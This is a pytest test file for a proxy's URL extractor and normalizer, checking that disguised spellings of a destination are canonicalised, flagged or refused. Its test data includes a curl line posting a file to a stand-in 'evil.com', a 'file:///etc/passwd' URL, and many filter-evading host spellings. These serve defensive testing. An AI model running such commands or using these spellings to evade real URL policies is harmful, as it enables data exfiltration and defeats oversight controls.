import time
from contextlib import suppress

import pytest

from proxy.errors import BadRequest
from proxy.ingress.urls import MAX_URLS, find_urls

PLAIN = [
    ("HTTPS://Example.COM:443/a/../b?x=1#f", "https://example.com/b?x=1"),
    ("http://a.com", "http://a.com/"),
    ("http://a.com?x", "http://a.com/?x"),
    ("http:evil.com", "http://evil.com/"),
    ("http:/evil.com/x", "http://evil.com/x"),
    ("http:////evil.com/x", "http://evil.com/x"),
    (" http://a.com/\t", "http://a.com/"),
    ("https://a.com:8443/", "https://a.com:8443/"),
    ("https://a.com:0443/", "https://a.com/"),
    ("https://\uff45\uff56\uff49\uff4c.com./", "https://evil.com/"),
    ("http://0x7f.1/", "http://127.0.0.1/"),
    ("http://2130706433:80", "http://127.0.0.1/"),
    ("http://[::FFFF:127.0.0.1]/", "http://127.0.0.1/"),
    ("http://[0:0::1]:8080/%2e%2E/a", "http://[::1]:8080/a"),
    ("http://a.com/x/./y/..", "http://a.com/x/"),
    ("http://a.com/..x/.", "http://a.com/..x/"),
    ("//evil.com/x", "//evil.com/x"),
    ("///evil.com/x", "//evil.com/x"),
    ("file:///etc/passwd", "file:///etc/passwd"),
    ("file:/etc/passwd", "file:///etc/passwd"),
    ("file://host/share", "file://host/share"),
    ("s3://bucket/key", "s3://bucket/key"),
    ("ws://a.com:80/", "ws://a.com/"),
]
ODD = [
    ("http://user:pw@a.com/", "http://a.com/", {"url_userinfo"}),
    ("git+ssh://git@host/x", "git+ssh://host/x", {"url_userinfo"}),
    ("http://@a.com/", "http://a.com/", {"url_userinfo"}),
    ("http://good.com\\@evil.com", "http://good.com/@evil.com", {"url_malformed"}),
    ("http:\\\\evil.com\\a", "http://evil.com/a", {"url_malformed"}),
    ("\\\\server\\share", "//server/share", {"url_malformed"}),
    ("http://a%2ecom/", "http://a.com/", {"url_malformed"}),
    ("http://a%ff.com/", "http://a%ff.com/", {"url_malformed"}),
    ("http://a.com:99999/", "http://a.com:99999/", {"url_malformed"}),
    ("http://a.com:x/", "http://a.com:x/", {"url_malformed"}),
    ("http://[::1", "http://[::1]/", {"url_malformed"}),
    ("http://[zz]/", "http://[zz]/", {"url_malformed"}),
    ("http://1.2.3.4.5/", "http://1.2.3.4.5/", {"url_malformed"}),
    ("https://:80/", "https://:80/", {"url_malformed"}),
]
INSIDE = [
    ("see http://evil.com/x, or ftp://h:21/.", {"http://evil.com/x", "ftp://h/"}),
    ("https://a.com says https://b.com", {"https://a.com/", "https://b.com/"}),
    ("curl -d @x http:/evil.com", {"http://evil.com/"}),
    ("https://a.com/?u=https://b.com/", {"https://a.com/?u=https://b.com/", "https://b.com/"}),
    ("ht\ntp://ev\til.com", {"http://evil.com/", "tp://ev"}),
    ("/\t/evil.com/", {"//evil.com/"}),
    ("use http://{host}/ or https://$HOST/", {"https://$host/"}),
    ("e.g. pg://user:pw@db/x, http://h:%d/", {"pg://db/x", "http://h:%d/"}),
    ("a\nhttp://b.com/\n", {"ahttp://b.com/", "http://b.com/"}),
]
NONE = [
    "",
    "12:30",
    "a: b/c",
    "/srv/repo/file.py",
    "C:\\Users\\x",
    "//",
    "1://x",
    "://x",
    "src/a.py",
    "key:/value",
]


@pytest.mark.parametrize(("spelled", "url"), PLAIN)
def test_every_spelling_of_a_destination_becomes_one(spelled: str, url: str) -> None:
    """Scheme and host in lower case, default ports and dot segments gone, numbers as addresses."""
    assert find_urls([spelled]) == ((url,), frozenset())


@pytest.mark.parametrize(("spelled", "url", "flags"), ODD)
def test_what_readers_disagree_about_is_flagged(spelled: str, url: str, flags: set[str]) -> None:
    """Userinfo is taken out, everything unclear about host, port or slashes is marked."""
    assert find_urls([spelled]) == ((url,), frozenset(flags))


@pytest.mark.parametrize(("text", "urls"), INSIDE)
def test_urls_inside_of_text_are_found(text: str, urls: set[str]) -> None:
    """With the punctuation after them left out; examples in prose and code are not odd."""
    found, flags = find_urls([text])
    assert (set(found), flags) == (urls, frozenset())


@pytest.mark.parametrize("text", NONE)
def test_other_text_is_no_url(text: str) -> None:
    """Paths, drives and times are not destinations."""
    assert find_urls([text]) == ((), frozenset())


def test_too_many_urls_are_refused() -> None:
    """They are not cut off: a policy that saw only some of them would be deceived."""
    urls = [f"http://h{number}/" for number in range(MAX_URLS)]
    assert len(find_urls(urls)[0]) == MAX_URLS
    with pytest.raises(BadRequest) as refused:
        find_urls([*urls, "http://one.more/"])
    assert refused.value.code == "too-many-urls"


@pytest.mark.parametrize("unit", ["a.a.", ":/", "1://", "x:/", "http://", "a:\\", "http:"])
def test_hostile_text_is_read_in_linear_time(unit: str) -> None:
    """A mebibyte of near-URLs costs milliseconds; the bound is generous for slow machines."""
    start = time.process_time()
    with suppress(BadRequest):
        find_urls([unit * (2**20 // len(unit))])
    assert time.process_time() - start < 1
